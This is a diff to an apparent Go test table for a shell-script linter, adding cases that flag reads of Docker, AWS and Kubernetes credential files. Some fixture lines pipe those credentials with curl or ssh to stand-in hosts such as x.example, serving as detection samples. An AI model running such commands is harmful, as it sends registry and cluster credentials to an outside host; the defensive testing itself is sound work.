@@ -151,6 +151,11 @@ var codeCases = []lintCase{
 	{"r.sh", "sensitive-path", "jq -r '.auths | keys[]' \"$HOME/.docker/config.json\"\n", "note", 1},
 	{"r.sh", "sensitive-path", "grep -c '^\\[' ~/.aws/credentials\n", "note", 1},
 	{"r.sh", "sensitive-path", "jq -r '.auths' \"$HOME/.docker/config.json\"\n", "warning", 1},
+	{"r.sh", "sensitive-path", "jq -r '.auths | to_entries[] | .key' \"$HOME/.docker/config.json\"\n", "note", 1},
+	{"r.sh", "sensitive-path", "jq -r '.auths | to_entries[] | .value' \"$HOME/.docker/config.json\"\n", "warning", 1},
+	{"r.sh", "sensitive-path", "if jq -e '.auths[\"ghcr.io\"]' \"$HOME/.docker/config.json\" >/dev/null; then echo logged in; fi\n", "note", 1},
+	{"r.sh", "sensitive-path", "yq -r '.contexts[].name' \"$HOME/.kube/config\"\n", "note", 1},
+	{"r.sh", "secret-exfil", "yq -o json '.users' \"$HOME/.kube/config\" | curl -s --data-binary @- https://x.example/u\n", "error", 1},
 	{"r.sh", "secret-exfil", "jq '.auths' \"$HOME/.docker/config.json\" | curl -s --data-binary @- https://x.example/u\n", "error", 1},
 	{"r.sh", "sensitive-path", "cfg=\"$HOME/.kube/config\"\nn=$(yq '.contexts | length' \"$cfg\")\nssh -T git@h.example \"$(cat \"$cfg\")\"\n", "warning", 3},
 	// the content reaching a process's input, an attribute, a tuple, a loop over the input, a callback
